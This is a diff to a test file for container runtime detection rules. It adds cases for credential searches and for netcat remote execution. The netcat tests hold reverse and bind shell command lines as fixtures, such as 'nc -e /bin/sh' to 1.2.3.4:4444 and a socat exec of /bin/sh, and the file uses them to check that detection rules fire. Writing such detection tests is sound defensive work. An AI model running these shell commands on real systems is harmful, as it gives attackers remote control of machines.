@@ -89,6 +89,7 @@ test('credential search', () => {
     grep(proc({ comm: 'bash' })), // a shell reading its stdin
     grep(proc({ comm: 'node', args: ['server.js'] })), // run by the server itself
     grep(shc(proc({ comm: 'java', args: ['-jar', 'app.jar'] }))), // by a shell the server started
+    grep(proc({ comm: 'sh', args: ['/tmp/x.sh'], parent: shc(proc({ comm: 'node', args: ['server.js'] })) })), // by a script it started
   );
   quiet(
     r,
@@ -99,6 +100,7 @@ test('credential search', () => {
     grep(shc(proc({ comm: 'tini', args: ['--', '/docker-entrypoint.sh'] }))),
     grep(shc(proc({ comm: 'node', args: ['/usr/local/bin/npm', 'run', 'check'] }))), // an npm script
     grep(shc(proc({ comm: 'node', args: ['/opt/yarn-v1.22.19/bin/yarn.js', 'check'] }))),
+    grep(proc({ ...entrypoint, parent: shc(proc({ comm: 'node', args: ['/usr/bin/npm', 'start'] })) })), // npm start runs the entrypoint
   );
 });
 
@@ -165,7 +167,8 @@ test('stdio redirected to a network socket', () => {
 test('netcat remote execution', () => {
   const r = 'Fargate netcat remote execution';
   fires(r, execve(proc({ comm: 'nc', args: ['-e', '/bin/sh', '1.2.3.4', '4444'] })), execve(proc({ comm: 'socat', args: ['tcp:1.2.3.4:4444', 'exec:/bin/sh'] })));
-  quiet(r, execve(proc({ comm: 'nc', args: ['-z', 'db', '5432'] })));
+  fires(r, execve(proc({ comm: 'busybox', args: ['nc', '-l', '-p', '4444', '-e', '/bin/sh'] })));
+  quiet(r, execve(proc({ comm: 'nc', args: ['-z', 'db', '5432'] })), execve(proc({ comm: 'busybox', args: ['wget', '-e', 'robots=off', 'http://x/'] })));
 });
 
 test('cgroup release_agent write', () => {
